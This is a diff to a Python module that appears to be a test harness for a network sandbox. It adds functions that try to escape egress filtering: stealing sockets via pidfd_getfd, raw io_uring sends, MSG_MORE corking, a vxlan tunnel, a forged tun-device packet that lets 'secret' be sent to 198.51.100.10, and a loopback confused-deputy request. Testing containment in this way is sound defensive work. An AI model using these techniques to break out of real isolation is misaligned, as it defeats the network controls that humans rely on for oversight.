@@ -125,6 +125,12 @@ def packet(addr, bypass="0"):
     return "sent"
 
 
+def packet_as(addr, uid):
+    os.setgid(int(uid))
+    os.setuid(int(uid))
+    return packet(addr)
+
+
 def family_only(fam, kind, proto="0"):
     with socket.socket(int(fam), int(kind), int(proto)):
         return "created"
@@ -132,6 +138,13 @@ def family_only(fam, kind, proto="0"):
 
 def udp(addr, port):
     with socket.socket(family(addr), SOCK_DGRAM) as s:
+        s.sendto(b"x", (addr, int(port)))
+    return "sent"
+
+
+def broadcast(addr, port):
+    with socket.socket(AF_INET, SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
         s.sendto(b"x", (addr, int(port)))
     return "sent"
 
@@ -361,7 +374,106 @@ def crowd(addr, port, count, to, toport):
         s.setblocking(False)
         s.connect_ex((addr, int(port)))
         held.append(s)
-    return connect(to, toport)
+    import names
+    from attack import name
+    try:
+        out = connect(to, toport)
+    except OSError as e:
+        out = name(e)
+    return out + ", others: " + names.http(addr, port, "GET / HTTP/1.1\\r\\nHost: www.googleapis.com\\r\\n\\r\\n")
+
+
+def deputy(addr, port):
+    """Asks a forwarder on loopback that is not captured."""
+    s = socket.create_connection(("127.0.0.1", int(port)), 1)
+    s.sendall(b"GET / HTTP/1.1\r\nHost: stranger.example\r\nConnection: close\r\n\r\n")
+    s.settimeout(2)
+    return "answered" if s.recv(1) else "closed"
+
+
+def pidfd(outside, addr, port):
+    """Takes a socket out of another process: pidfd_getfd()."""
+    r, w = os.pipe()
+    ready, done = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        join(outside)
+        s = socket.socket(family(addr), SOCK_STREAM)
+        os.write(done, bytes([s.fileno()]))
+        os.close(w)
+        os.read(r, 1)
+        os._exit(0)
+    theirs = os.read(ready, 1)[0]
+    fd = checked(libc.syscall(438, checked(libc.syscall(434, pid, 0)), theirs, 0))
+    try:
+        return connect(addr, port, socket.socket(fileno=fd))
+    finally:
+        os.close(w)
+        os.waitpid(pid, 0)
+
+
+def uring_send(addr, port):
+    """sendto() as an io_uring request."""
+    params = bytearray(120)
+    fd = checked(libc.syscall(425, 4, (ctypes.c_char * 120).from_buffer(params)))
+    sq, cq = struct.unpack_from("=7I", params, 40), struct.unpack_from("=6I", params, 80)
+    rings = mmap.mmap(fd, 4096, offset=0)
+    entries = mmap.mmap(fd, 4096, offset=0x10000000)
+    at, data = ctypes.create_string_buffer(sockaddr(addr, port)), ctypes.create_string_buffer(b"x")
+    s = socket.socket(family(addr), SOCK_DGRAM)
+    # IORING_OP_SEND with the address in addr2 and its length in file_index.
+    struct.pack_into("=BBHiQQIIQHHiQ", entries, 0, 26, 0, 0, s.fileno(), ctypes.addressof(at), ctypes.addressof(data),
+                     1, 0, 0, 0, 0, len(at) - 1, 0)
+    struct.pack_into("=I", rings, sq[6], 0)
+    struct.pack_into("=I", rings, sq[1], 1)
+    checked(libc.syscall(426, fd, 1, 1, 1, None, 0))
+    result = struct.unpack_from("=i", rings, cq[5] + 8)[0]
+    return errno.errorcode[-result] if result < 0 else "sent"
+
+
+def corked(first, fport, addr, port):
+    """MSG_MORE to an allowed server, the rest elsewhere: one datagram."""
+    with socket.socket(family(addr), SOCK_DGRAM) as s:
+        s.sendto(b"a", socket.MSG_MORE, (first, int(fport)))
+        s.sendto(b"b", (addr, int(port)))
+    return "sent"
+
+
+def tunnelled(addr):
+    """A tunnel device of the attacker's own, with CAP_NET_ADMIN."""
+    import subprocess
+    def ip(*args):
+        if subprocess.run(("ip",) + args, stderr=subprocess.DEVNULL).returncode:
+            raise OSError(errno.ENOSYS, "ip")
+    ip("link", "add", "tun9", "type", "vxlan", "id", "9", "remote", addr, "dstport", "4789")
+    try:
+        ip("link", "set", "tun9", "up")
+        time.sleep(0.1)
+        with socket.socket(socket.AF_PACKET, SOCK_DGRAM, 0) as s:
+            s.sendto(crafted(addr), ("tun9", 0x0800, 0, 0, b"\xff" * 6))
+    finally:
+        ip("link", "del", "tun9")
+    return "sent"
+
+
+def tun_peer(addr, port):
+    """The stranger seems to ask first, through a tun device."""
+    tun = os.open("/dev/net/tun", os.O_RDWR)
+    ifr = struct.pack("16sH22x", b"tun8", 0x1001)  # IFF_TUN, IFF_NO_PI
+    fcntl.ioctl(tun, 0x400454CA, ifr)  # TUNSETIFF
+    server = socket.socket(AF_INET, SOCK_DGRAM)
+    server.bind(("0.0.0.0", 0))
+    server.settimeout(1)
+    fcntl.ioctl(server, 0x8914, struct.pack("16sH22x", b"tun8", 0x41))  # SIOCSIFFLAGS: up
+    udp = struct.pack("!HHHH", int(port), server.getsockname()[1], 13, 0) + b"hello"
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(addr), socket.inet_aton("198.51.100.10"))
+    words = sum(struct.unpack("!10H", head))
+    words = (words & 0xffff) + (words >> 16)
+    head = head[:10] + struct.pack("!H", ~(words + (words >> 16)) & 0xffff) + head[12:]
+    os.write(tun, head + udp)
+    _, peer = server.recvfrom(16)
+    server.sendto(b"secret", peer)
+    return "sent"
 
 
 def same_tuple(addr, port, lo, loport):
